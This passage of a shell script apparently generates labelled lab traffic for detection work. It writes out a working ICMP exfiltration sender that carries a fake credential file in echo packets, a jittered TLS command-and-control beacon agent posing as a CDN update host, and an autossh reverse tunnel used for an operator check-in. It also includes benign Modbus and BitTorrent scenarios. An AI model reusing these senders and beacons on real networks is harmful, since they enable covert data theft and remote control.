		"10.20.$k.1" >"$WORK_DIR/$name.server.log" 2>&1 &
	app_wait_listen 502 20
}

modbus_traffic()
{
	modbus_client_py >"$WORK_DIR/$name.client.py"
	log "$name: pymodbus polls 10.20.$k.1:502 every 5 s, ${seconds}s"
	ip netns exec "$in" "$(python_bin)" "$WORK_DIR/$name.client.py" \
		"10.20.$k.1" "$seconds" >"$WORK_DIR/$name.client.log" 2>&1 &
	sleep "$seconds"
	app_still_open 502
}

# ------------------------------------------------- ICMP exfiltration

# The text file both ICMP scenarios carry out: an ordinary-looking notes
# file (readable text, ~3 kB).
icmp_exfil_file()
{
	local i

	printf 'ops notes - db cluster maintenance\n'
	for ((i = 1; i <= 40; i++)); do
		printf 'host db%02d.corp.example: user=svc_backup pass=Winter%04d! last_ok=2026-12-0%d\n' \
			"$i" $((i * 37)) $((i % 7 + 1))
	done
}

# A raw-socket ICMP echo sender (no scapy): MODE text sends the file in
# CHUNK-byte pieces; MODE b64 sends "name::id::n" then a base64 chunk.
icmp_exfil_py()
{
	cat <<-'EOF'
	import base64, os, socket, struct, sys, time
	dst, path, mode, chunk = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])

	def checksum(b):
	    if len(b) % 2:
	        b += b"\0"
	    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
	    s = (s >> 16) + (s & 0xffff)
	    s += s >> 16
	    return ~s & 0xffff

	data = open(path, "rb").read()
	if mode == "b64":
	    data = base64.b64encode(data)
	pieces = [data[i:i + chunk] for i in range(0, len(data), chunk)]
	sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
	ident = os.getpid() & 0xffff
	for seq, piece in enumerate(pieces, 1):
	    if mode == "b64":
	        piece = b"notes.txt::%04x::%d::" % (ident, seq) + piece
	    hdr = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
	    csum = checksum(hdr + piece)
	    sock.sendto(struct.pack("!BBHHH", 8, 0, csum, ident, seq) + piece,
	                (dst, 0))
	    time.sleep(0.7)
	EOF
}

icmp_exfil_traffic()
{
	icmp_exfil_file >"$WORK_DIR/$name.notes.txt"
	icmp_exfil_py >"$WORK_DIR/$name.send.py"
	log "$name: $(wc -c <"$WORK_DIR/$name.notes.txt") bytes in ICMP echoes ($mode, $chunk B)"
	ip netns exec "$in" ping -c 2 -i 0.5 -q "10.20.$k.1" >/dev/null ||
		log "$name: plain ping failed"
	sleep 1
	ip netns exec "$in" "$(python_bin)" "$WORK_DIR/$name.send.py" \
		"10.20.$k.1" "$WORK_DIR/$name.notes.txt" "$mode" "$chunk"
	sleep 1
}

scenario_icmptun_exfil_text()
{
	local mode=text chunk=1100
	record "$1" "$2" "$SNAP_WHOLE" "" icmp_exfil_traffic
}

scenario_icmptun_exfil_b64()
{
	local mode=b64 chunk=1200
	record "$1" "$2" "$SNAP_WHOLE" "" icmp_exfil_traffic
}

# ------------------------------------------------------- TLS beacons

# An HTTPS server (TLS 1.3, HTTP/1.1 keep-alive) with a tiny task file.
https_server_py()
{
	cat <<-'EOF'
	import http.server, ssl, sys
	class H(http.server.SimpleHTTPRequestHandler):
	    protocol_version = "HTTP/1.1"
	    def log_message(self, *a):
	        pass
	srv = http.server.ThreadingHTTPServer((sys.argv[1], 443), H)
	ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
	ctx.load_cert_chain(sys.argv[2], sys.argv[3])
	srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
	srv.serve_forever()
	EOF
}

https_servers()
{
	mkdir -p "$WORK_DIR/$name.www"
	printf '{"task":"sleep","interval":15}\n' >"$WORK_DIR/$name.www/task"
	openssl req -x509 -newkey rsa:2048 -nodes -days 2 \
		-subj /CN=updates.cdn-edge.example -keyout "$WORK_DIR/$name.key" \
		-out "$WORK_DIR/$name.crt" 2>/dev/null
	https_server_py >"$WORK_DIR/$name.https.py"
	(cd "$WORK_DIR/$name.www" && exec ip netns exec "$out" \
		"$(python_bin)" "$WORK_DIR/$name.https.py" "10.20.$k.1" \
		"$WORK_DIR/$name.crt" "$WORK_DIR/$name.key" \
		>"$WORK_DIR/$name.https.log" 2>&1) &
	app_wait_listen 443 20
}

scenario_tls_beacon_rare()
{
	local rounds=${TW_TLS_BEACON_ROUNDS:-14}
	record "$1" "$2" "$SNAP_HEADERS" https_servers tls_beacon_rare_traffic
}

tls_beacon_rare_traffic()
{
	local i url="https://updates.cdn-edge.example/task"

	log "$name: curl --tlsv1.3 every 15 s +-1 s x$rounds to 10.20.$k.1:443"
	RANDOM=1721
	for ((i = 1; i <= rounds; i++)); do
		ip netns exec "$in" curl -sk --tlsv1.3 -o /dev/null --max-time 5 \
			-A "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" \
			--resolve "updates.cdn-edge.example:443:10.20.$k.1" "$url" ||
			log "$name: round $i failed"
		sleep_ms_between 14000 16000
	done
}

# A C2 agent in one TLS connection: a GET every 15 s +-1 s, kept alive.
tls_agent_py()
{
	cat <<-'EOF'
	import http.client, random, ssl, sys, time
	host, rounds = sys.argv[1], int(sys.argv[2])
	random.seed(1731)
	ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
	ctx.check_hostname = False
	ctx.verify_mode = ssl.CERT_NONE
	ctx.minimum_version = ssl.TLSVersion.TLSv1_3
	c = http.client.HTTPSConnection(host, 443, context=ctx)
	for i in range(rounds):
	    c.request("GET", "/task", headers={"Host": "updates.cdn-edge.example"})
	    c.getresponse().read()
	    time.sleep(random.uniform(14.0, 16.0))
	time.sleep(3600)
	EOF
}

scenario_tls_beacon_inflow()
{
	local rounds=${TW_TLS_BEACON_ROUNDS:-14}
	record "$1" "$2" "$SNAP_HEADERS" https_servers tls_beacon_inflow_traffic
}

tls_beacon_inflow_traffic()
{
	tls_agent_py >"$WORK_DIR/$name.agent.py"
	log "$name: one TLS 1.3 connection, GET every 15 s +-1 s x$rounds"
	ip netns exec "$in" "$(python_bin)" "$WORK_DIR/$name.agent.py" \
		"10.20.$k.1" "$rounds" >"$WORK_DIR/$name.agent.log" 2>&1 &
	sleep $((rounds * 15 + 2))
	app_still_open 443
}

# ------------------------------------------- autossh with one check-in

# autossh -M 0 -R with ServerAliveInterval=15, idle for 120 s; then the
# operator outside logs back in through the tunnel, types two commands,
# leaves; the tunnel idles on for 20 s and is open when the capture stops.
scenario_ssh_autossh_checkin()
{
	local seconds=${TW_SSH_IDLE_SECONDS:-120}

	ssh_record "$1" "$2" sshd_both autossh_checkin_traffic
}

autossh_checkin_traffic()
{
	printf 'id\nls /root\n' >"$WORK_DIR/$name.commands"
	log "$name: autossh -M 0 -R, ServerAliveInterval=15, idle ${seconds}s, one check-in"
	autossh_tunnel -o ServerAliveInterval=15
	sleep "$seconds"
	# shellcheck disable=SC2046
	ip netns exec "$out" timeout 120 "$(python_bin)" \
		"$SCRIPT_DIR/tw_type.py" "$k" 90 360 "$WORK_DIR/$name.commands" \
		-- ssh $(ssh_opts) -tt -p 2222 root@127.0.0.1 >/dev/null 2>&1 ||
		log "$name: the check-in ended with an error"
	sleep 20
	ip netns exec "$in" ss -tn state established |
		grep -q "10.20.$k.1:22" || die "$name: tunnel not established"
}

# ----------------------------------------------------------- BitTorrent

# A minimal HTTP tracker: every announce is remembered, the answer lists
# the other peers of the torrent (non-compact), interval 30 s.
bt_tracker_py()
{
	cat <<-'EOF'
	import http.server, sys, urllib.parse
	peers = {}
	def bstr(b):
	    return b"%d:%s" % (len(b), b)
	class T(http.server.BaseHTTPRequestHandler):
	    def log_message(self, *a):
	        pass
	    def do_GET(self):
	        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query,
	                                  keep_blank_values=True, encoding="latin-1")
	        ih = q["info_hash"][0].encode("latin-1")
	        me = (self.client_address[0], int(q["port"][0]))
	        known = peers.setdefault(ih, set())
	        others = [p for p in known if p != me]
	        known.add(me)
	        body = b"d8:intervali30e5:peersl" + b"".join(
	            b"d2:ip" + bstr(ip.encode()) + b"4:porti%de" % port + b"e"
	            for ip, port in others) + b"ee"
	        self.send_response(200)
	        self.send_header("Content-Type", "text/plain")
	        self.send_header("Content-Length", str(len(body)))
	        self.end_headers()
	        self.wfile.write(body)
	http.server.HTTPServer((sys.argv[1], 6969), T).serve_forever()
	EOF
}

# settings.json for transmission: no DHT, LPD, uTP, PEX or port mapping
# (the tracker is the only way to meet), unencrypted peer wire preferred.
bt_settings()
{
	cat <<-EOF
	{ "dht-enabled": false, "lpd-enabled": false, "utp-enabled": false,
	  "pex-enabled": false, "port-forwarding-enabled": false,
	  "encryption": 0, "peer-port": $1, "message-level": 1 }
	EOF
}

scenario_benign_bittorrent_local()
{
	local seconds
	seconds=$(app_short_seconds)
	record "$1" "$2" "$SNAP_HEADERS" bt_servers bt_traffic
}

bt_servers()
{
	local d="$WORK_DIR/$name.bt"

	mkdir -p "$d/seed" "$d/seedcfg" "$d/leech" "$d/leechcfg"
	head -c 524288 /dev/urandom >"$d/seed/dataset-2026-12.bin"
	transmission-create -o "$d/data.torrent" \
		-t "http://10.20.$k.1:6969/announce" \
		"$d/seed/dataset-2026-12.bin" >/dev/null 2>&1 ||
		die "$name: transmission-create failed"
	bt_settings 51413 >"$d/seedcfg/settings.json"
	bt_settings 51414 >"$d/leechcfg/settings.json"
	bt_tracker_py >"$d/tracker.py"
	ip netns exec "$out" "$(python_bin)" "$d/tracker.py" "10.20.$k.1" \
		>"$WORK_DIR/$name.tracker.log" 2>&1 &
	app_wait_listen 6969 20
	ip netns exec "$out" transmission-cli -g "$d/seedcfg" -w "$d/seed" \
		-et -M -p 51413 -v "$d/data.torrent" \
		>"$WORK_DIR/$name.seed.log" 2>&1 &
	sleep 3
}

bt_traffic()
{
	local d="$WORK_DIR/$name.bt"

	log "$name: transmission-cli 10.20.$k.2 fetches 512 kB from the seeder 10.20.$k.1, ${seconds}s"
	ip netns exec "$in" transmission-cli -g "$d/leechcfg" -w "$d/leech" \
		-et -M -p 51414 -d 100 "$d/data.torrent" \
		>"$WORK_DIR/$name.leech.log" 2>&1 &
	sleep "$seconds"
	cmp -s "$d/seed/dataset-2026-12.bin" "$d/leech/dataset-2026-12.bin" ||
		log "$name: warning: the download is not complete"
}
